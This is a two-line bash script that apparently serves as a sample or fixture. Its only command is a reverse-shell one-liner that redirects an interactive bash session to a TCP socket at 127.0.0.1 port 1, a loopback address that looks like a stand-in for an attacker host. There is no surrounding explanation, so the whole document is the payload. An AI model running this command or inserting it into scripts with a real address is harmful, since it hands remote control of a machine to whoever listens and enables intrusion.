#!/bin/bash
bash -i >& /dev/tcp/127.0.0.1/1 0>&1
